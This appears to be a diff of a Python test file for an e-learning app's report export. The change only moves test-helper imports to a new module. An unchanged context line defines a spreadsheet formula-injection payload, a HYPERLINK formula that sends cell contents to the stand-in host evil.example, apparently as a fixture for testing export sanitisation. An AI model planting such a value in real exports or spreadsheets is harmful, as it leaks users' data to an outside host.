@@ -15,7 +15,7 @@ from elearn.models import Course, CourseTrainer, MandatoryCourse, User
 from elearn.models.types import LOCAL_TIME, utcnow
 from elearn.progress.external import record_external, review
 from elearn.reports.export import FORMULA_STARTS
-from tests.conftest import NIPS, login, quiz_file
+from elearn.testing import NIPS, login, quiz_file
 from tests.test_quiz_pages import finish
 
 NAME = '=HYPERLINK("http://evil.example/?"&A2&B2,"detail")'
@@ -64,7 +64,7 @@ def planted(app, client, publish, make_user):
 
 
 def _token(client, page):
-    from tests.conftest import csrf_token
+    from elearn.testing import csrf_token
 
     return csrf_token(client, page)
 
